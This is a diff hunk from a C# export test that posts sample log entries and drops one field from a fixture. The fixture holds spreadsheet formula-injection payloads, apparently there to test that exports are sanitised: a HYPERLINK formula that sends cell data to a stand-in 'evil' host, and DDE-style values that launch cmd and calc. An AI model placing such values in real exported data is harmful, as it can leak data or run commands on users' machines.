@@ -145,7 +145,7 @@ public sealed class ExportTests(ExportTests.FilledServer server) : IClassFixture
                 """{"id":"a","timestamp":"2026-01-01T12:00:00Z","project":"mail","task":"Draft","output":"one, two \"three\"","model":"gpt-4o","sessionId":"s1","tags":["vip","eu"],"latencyMs":30,"costUsd":0.0005,"metadata":{"run":7}}""",
                 """{"id":"b","timestamp":"2026-01-02T12:00:00Z","project":"mail","output":"=HYPERLINK(\"http://evil/?\"&A1)\r\na discount","actorId":"@SUM(1)","subjectId":"-5.5"}""",
                 """{"id":"c","timestamp":"2026-01-03T12:00:00Z","project":"+1|cmd","output":"\tGrüße 👋","inputText":"-1+cmd|' /C calc'!A0","confidence":0.5}""",
-                """{"id":"d","timestamp":"2026-01-04T12:00:00Z","project":"mail","action":{"name":"refund"},"tags":["vip"],"requireApproval":true,"revisionOf":"a"}""",
+                """{"id":"d","timestamp":"2026-01-04T12:00:00Z","project":"mail","action":{"name":"refund"},"tags":["vip"],"requireApproval":true}""",
             })
                 (await Http.PostJsonAsync("/api/logs", body)).Status.ShouldBe(202);
             await Http.PatchJsonAsync("/api/logs/b/decision", """{"decision":"rejected","note":"No, \"never\"."}""");
